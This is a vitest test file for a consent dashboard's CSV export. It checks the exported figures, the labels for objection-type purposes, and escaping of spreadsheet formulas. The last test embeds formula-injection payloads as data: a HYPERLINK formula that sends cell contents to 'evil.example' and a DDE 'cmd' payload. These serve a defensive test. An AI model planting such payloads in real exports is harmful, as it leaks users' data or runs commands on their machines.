import { describe, expect, it } from "vitest";
import { dashboardCsv } from "./csv";
import type { DashboardDTO } from "./types";

const data: DashboardDTO = {
  filters: { from: "2026-01-01", to: "2026-01-31", purposes: ["sms"], channels: ["web"], granularity: "month" },
  purposes: [{ key: "sms", kind: "consent", labelFr: "SMS", labelEn: "SMS", isActive: true }],
  current: [{ key: "sms", optedIn: 12, everAsked: 20, rate: 60 }],
  optedInSeries: [{ bucket: "2026-01-01", values: { sms: 12 } }],
  askedSeries: [{ bucket: "2026-01-01", values: { sms: 20 } }],
  flows: [{ bucket: "2026-01-01", channel: "web", grants: 5, refusals: 3, withdrawals: 2 }],
  spikes: [
    {
      day: "2026-01-20",
      withdrawals: 40,
      trailingMean: 2,
      ratio: 20,
      drivers: [{ key: "sms", channel: "web", withdrawals: 40 }],
    },
  ],
  versions: [{ key: "sms", textVersion: "v2", grants: 5, refusals: 3, withdrawals: 2 }],
  campaignChecks: [],
};

/** The document's lines, without its BOM and final CRLF. */
const linesOf = (csv: string) =>
  csv
    .replace(/^\uFEFF/, "")
    .replace(/\r\n$/, "")
    .split("\r\n");

describe("dashboard CSV", () => {
  it("holds every figure shown, and nothing else", () => {
    const lines = linesOf(dashboardCsv(data));
    expect(lines[0]).toBe("section,purpose,period,channel,text_version,metric,value");
    expect(lines).toContain("current,sms,2026-01-31,all,,opted_in,12");
    expect(lines).toContain("current,sms,2026-01-31,all,,rate_percent,60");
    expect(lines).toContain("opted_in_over_time,sms,2026-01-01,all,,opted_in_end_of_month,12");
    expect(lines).toContain("flows,sms,2026-01-01,web,,withdrawals,2");
    expect(lines).toContain("withdrawal_spike,sms,2026-01-20,web,,withdrawals,40");
    expect(lines).toContain("text_version,sms,2026-01-01..2026-01-31,web,v2,grants,5");
    expect(lines).toContain("flows,sms,2026-01-01,web,,refusals,3");
    expect(lines).toContain("withdrawal_spike_driver,sms,2026-01-20,web,,withdrawals,40");
    expect(lines).toHaveLength(1 + 3 + 1 + 3 + 3 + 3);
  });

  it("names an objection purpose's count as the page reads it: subscribers not objecting", () => {
    const withObjection: DashboardDTO = {
      ...data,
      purposes: [
        ...data.purposes,
        { key: "mobility", kind: "objection", labelFr: "Mobilité", labelEn: "Mobility", isActive: true },
      ],
      current: [...data.current, { key: "mobility", optedIn: 90, everAsked: 100, rate: 90 }],
      optedInSeries: [{ bucket: "2026-01-01", values: { sms: 12, mobility: 90 } }],
    };
    const lines = linesOf(dashboardCsv(withObjection));
    expect(lines).toContain("current,mobility,2026-01-31,all,,not_objecting,90");
    expect(lines).toContain("opted_in_over_time,mobility,2026-01-01,all,,not_objecting_end_of_month,90");
    expect(lines).toContain("current,sms,2026-01-31,all,,opted_in,12");
    expect(lines.some((line) => line.startsWith("current,mobility") && line.includes(",opted_in,"))).toBe(false);
  });

  it("is a UTF-8 document with BOM whose text cells cannot run as formulas", () => {
    const hostile: DashboardDTO = {
      ...data,
      versions: [
        {
          key: "sms",
          textVersion: '=HYPERLINK("http://evil.example/?d="&A1,"v2")',
          grants: 5,
          refusals: 0,
          withdrawals: 2,
        },
        { key: "sms", textVersion: "+cmd|' /C calc'!A0", grants: 1, refusals: 0, withdrawals: -3 },
        { key: "sms", textVersion: "@SUM(1+1)", grants: 1, refusals: 0, withdrawals: 0 },
      ],
    };
    const csv = dashboardCsv(hostile);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const lines = linesOf(csv);
    expect(lines).toContain(
      `text_version,sms,2026-01-01..2026-01-31,web,"'=HYPERLINK(""http://evil.example/?d=""&A1,""v2"")",grants,5`,
    );
    expect(lines).toContain(`text_version,sms,2026-01-01..2026-01-31,web,'+cmd|' /C calc'!A0,withdrawals,-3`);
    expect(lines).toContain("text_version,sms,2026-01-01..2026-01-31,web,'@SUM(1+1),grants,1");
    expect(lines.some((line) => /(^|,)"?[=+@]/.test(line))).toBe(false);
  });
});
